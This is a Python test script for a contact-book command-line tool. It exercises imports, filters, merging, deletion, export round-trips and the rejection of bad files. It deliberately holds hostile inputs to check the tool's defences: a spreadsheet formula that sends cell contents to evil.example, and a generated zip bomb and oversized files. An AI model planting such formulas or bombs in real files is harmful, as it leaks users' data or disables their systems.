"""Bring everyone in, lose no one: the part of the story about the people alone.

Files, folders and standard input; two records of one person; filters; the bin;
every way out and in again; deleting without a trace; and files that must be
refused. It has a folder and a database of its own.
"""

import csv
import json
import zipfile

from telling import DB, ROOM, answer, expect, refused, run

HOUSE = ROOM / "people"
BOOK = HOUSE / "book" / "people.db"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1)'
TRACE = "Zyxwora Quellbrunn"  # letters that occur in nothing else

CARDS = """BEGIN:VCARD
VERSION:3.0
N:Duarte;Inês;;;
FN:Inês Duarte
ORG:Tern
TITLE:Head of design
EMAIL;TYPE=work:ines@tern.example
TEL;TYPE=cell:+351 912 345 678
NOTE:Met in Porto\\, over two cups.
END:VCARD
BEGIN:VCARD
VERSION:2.1
N;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:Wei=C3=9F;J=C3=BCrgen
TEL;CELL:+49 171 5550199
END:VCARD
"""


def ask(*args, **more):
    return answer(*args, db=BOOK, **more)


def names(*args):
    return [p["name"] for p in ask("people", *args)]


def counts(got):
    """Added, updated, unchanged and skipped over all files of an import."""
    files = got if isinstance(got, list) else [got]
    return tuple(sum(f.get(k, 0) for f in files) for k in ("added", "updated", "unchanged", "skipped"))


def bring_many():
    """A card file, a table and a folder in one import, then standard input."""
    folder = HOUSE / "drawer" / "older"
    folder.mkdir(parents=True)
    BOOK.parent.mkdir()
    (HOUSE / "cards.vcf").write_text(CARDS, encoding="utf-8")
    with open(HOUSE / "table.csv", "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["Name", "Title", "Company", "E-mail", "Tags", "Skills"])
        w.writerow(["Kim Park", FORMULA, "Kestrel Analytics", "kim@mail.example", "tender", "Pricing:5"])
        w.writerow(["Kimberly Park", "Lead designer", "Kestrel Analytics", "kimberly@kestrel.example", "", ""])
    (HOUSE / "drawer" / "more.tsv").write_text("Name\tE-mail\nBen Ito\tben@kestrel.example\nInês Duarte\tines@tern.example\n", encoding="utf-8")
    (folder / "last.csv").write_text("Vorname;Nachname;E-Mail-Adresse\nCleo;Marsh;cleo@kestrel.example\n", encoding="utf-8")
    (HOUSE / "drawer" / "letter.txt").write_text("Dear Ben, it was good to see you. The kettle is on.\n", encoding="utf-8")
    what = ("import", HOUSE / "cards.vcf", HOUSE / "table.csv", HOUSE / "drawer")
    dry = ask(*what, "--dry-run")
    expect("a dry run of many files adds nobody", names() == [])
    got = ask(*what)
    expect("files and a folder are one import: 6 people, one of them in two files", counts(got) == (6, 0, 1, 0), got)
    expect("a dry run says the same", counts(dry) == counts(got), dry)
    expect("what only lay in the folder is told", [f["file"] for f in got if f["format"] == "ignored"] == ["letter.txt"], got)
    run("undo", db=BOOK)
    expect("one undo takes all of them back", names() == [])
    ask(*what)
    got = ask("import", "-", stdin=f"Name,Title,Company,E-mail,Tags,Skills\n{TRACE},Archivist,Heron,zyxwora@quellbrunn.example,tender; choir,Negotiation:4\n")
    expect("a table is read from standard input", counts(got) == (1, 0, 0, 0), got)
    got = ask("import", "-", stdin="Noor Haddad, CTO at Tern, noor@tern.example\n")
    expect("a typed line is read from standard input", counts(got) == (1, 0, 0, 0) and got.get("format") == "typed", got)
    got = ask("import", "-", stdin=CARDS)
    expect("cards from standard input are recognised and known", counts(got) == (0, 0, 2, 0) and got.get("format") == "vcard", got)
    expect("8 people are there", len(names()) == 8, names())


def find():
    ask("talked", "Inês Duarte", "--note", "The tern colony and the new layout")
    for what, args, want in (
        ("a word of a note", ["colony"], ["Inês Duarte"]),
        ("a name without its accents", ["ines dua"], ["Inês Duarte"]),
        ("a tag", ["--filter", "tag:tender"], ["Kim Park", TRACE]),
        ("a skill at its level", ["--filter", "skill:Pricing>=4"], ["Kim Park"]),
        ("two filters together", ["--filter", "tag:tender", "--filter", "organisation:heron"], [TRACE]),
        ("words and a filter", ["kestrel", "--filter", "tag:tender"], ["Kim Park"]),
        ("a talk of late", ["--filter", "last-contact:<90d"], ["Inês Duarte"]),
    ):
        got = names(*args)
        expect(f"{what} finds {' and '.join(want)}", sorted(got) == sorted(want), got)
    refused("a filter that is none", "people", "--filter", "age:40", db=BOOK, codes=(1, 2))


def one_of_two():
    """Two records of one person become one, and two again."""
    pairs = ask("merge", "--list").get("pairs", [])
    expect("the two of one name and firm are proposed", [{p["nameA"], p["nameB"]} for p in pairs] == [{"Kim Park", "Kimberly Park"}], pairs)
    before = [ask("person", name) for name in ("Kim Park", "Kimberly Park")]
    merged = ask("merge", "kim@mail.example", "kimberly@kestrel.example")
    whole = ask("person", "Kim Park")
    kept = json.dumps(whole)
    expect("a merge keeps the addresses of both", "kim@mail.example" in kept and "kimberly@kestrel.example" in kept, whole)
    expect("one of the two is left", len(names()) == 7 and "Kimberly Park" not in names(), names())
    ask("unmerge", merged.get("merge", 0))
    after = [ask("person", name) for name in ("Kim Park", "Kimberly Park")]
    expect("taken apart, both are as they were", after == before, after)
    expect("8 people are there again", len(names()) == 8, names())


def bin_and_back():
    before = ask("people"), ask("person", "Ben Ito")
    ask("person", "delete", "Ben Ito")
    expect("who is deleted is in no list", "Ben Ito" not in names(), names())
    expect("but in the bin", names("--filter", "bin") == ["Ben Ito"], names("--filter", "bin"))
    refused("a person in the bin", "person", "Ben Ito", db=BOOK)
    ask("person", "restore", "ben@kestrel.example")
    expect("brought back, nothing of them is lost", (ask("people"), ask("person", "Ben Ito")) == before)


def out_and_in():
    """Every way out leads in again and changes nothing; the archive is complete."""
    for name, args in (("out.vcf", ()), ("old.vcf", ("--vcard", "3.0", "--private")), ("out.csv", ()), ("all.csv", ("--private",)), ("out.json", ())):
        wrote = ask("export", "--out", HOUSE / name, *args)
        expect(f"{name} has everybody", wrote.get("people") == 8, wrote)
        expect(f"{name} in again changes nothing", counts(ask("import", HOUSE / name)) == (0, 0, 8, 0))
    some = ask("export", "--filter", "tag:tender", "--out", HOUSE / "some.csv")
    expect("a filter chooses who goes out", some.get("people") == 2, some)
    with open(HOUSE / "out.csv", encoding="utf-8-sig", newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    expect("no cell of the table is a formula", not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells)
    expect("what looks like one is still there, as text", any(c.endswith(FORMULA) and c != FORMULA for c in cells), cells)
    for book, called in ((BOOK, "people"), (DB, "loop")):
        one, two, fresh = HOUSE / f"{called}-1.json", HOUSE / f"{called}-2.json", HOUSE / f"{called}.db"
        answer("export", "--out", one, db=book)
        answer("import", one, db=fresh)
        answer("export", "--out", two, db=fresh)
        expect(f"the archive of the {called} into an empty database gives the same archive", one.read_bytes() == two.read_bytes())
        done = run("check", db=fresh)
        expect(f"the database made of the archive of the {called} is sound", done.returncode == 0, done.stdout + done.stderr)


def traces():
    """The files of the database in which somebody's letters stand, the WAL among
    them. Backups that were made before are not rewritten."""
    return [f.name for f in sorted(BOOK.parent.glob(BOOK.name + "*")) if any(part in f.read_bytes().lower() for part in (b"yxwor", b"uellbrunn"))]


def leave_no_trace():
    ask("talked", TRACE, "--note", "Zyxwora told me of Quellbrunn")
    expect("before, the letters stand in the file", BOOK.name in traces(), traces())
    ask("person", "delete", TRACE, "--for-good")
    expect("deleted for good, nobody of that name is there", TRACE not in names() + names("--filter", "bin"))
    expect("and no byte of them is in the file or beside it", traces() == [], traces())
    run("backup", BOOK.parent / (BOOK.name + ".copy"), db=BOOK)
    expect("nor in a backup made now", (BOOK.parent / (BOOK.name + ".copy")).exists() and traces() == [], traces())
    refused("bringing back who was deleted for good", "person", "restore", TRACE, db=BOOK)
    ask("export", "--out", HOUSE / "after.json")
    expect("nor in the archive", b"uellbrunn" not in (HOUSE / "after.json").read_bytes().lower())


def turn_away():
    """Files that are none, or are made to harm: one sentence, nothing changed."""
    (HOUSE / "photo.csv").write_bytes(bytes([0xFF, 0xD8, 0xFF, 0xE0, 0, 16]) + b"JFIF" + bytes(range(256)) * 40)
    (HOUSE / "nul.csv").write_bytes(b"Name,E-mail\n" + bytes(5000))
    (HOUSE / "endless.csv").write_bytes(b"Name,E-mail\n" + b"x" * (30 << 20))
    (HOUSE / "huge.csv").write_bytes(b"Name,E-mail\n")
    with open(HOUSE / "huge.csv", "r+b") as f:
        f.truncate(1 << 30)
    with zipfile.ZipFile(HOUSE / "bomb.zip", "w", zipfile.ZIP_DEFLATED) as z, z.open("Connections.csv", "w", force_zip64=True) as f:
        f.write(b"First Name,Last Name,URL,Email Address,Company,Position,Connected On\n")
        for _ in range(400):
            f.write(b"a" * (1 << 20))
    whole = (HOUSE / "people-1.json").read_bytes()
    (HOUSE / "cut.json").write_bytes(whole[:len(whole) // 2])
    for name, what in (("photo.csv", "a JPEG named .csv"), ("nul.csv", "a table of NULs"), ("endless.csv", "an endless line"),
                       ("huge.csv", "a gigabyte of nothing"), ("bomb.zip", "a zip bomb"), ("cut.json", "half an archive")):
        refused(what, "import", HOUSE / name, db=BOOK)
        (HOUSE / name).unlink()
    refused("a bad file beside a good one", "import", HOUSE / "some.csv", HOUSE / "nowhere.vcf", db=BOOK, codes=(1, 2))
    refused("a letter on standard input", "import", "-", db=BOOK, stdin="This is a letter to a friend,\nand no list of people at all.\n")
    done = run("check", db=BOOK)
    expect("after all of it the book is sound", done.returncode == 0, done.stdout + done.stderr)


def walk():
    HOUSE.mkdir()
    bring_many()
    find()
    one_of_two()
    bin_and_back()
    out_and_in()
    leave_no_trace()
    turn_away()
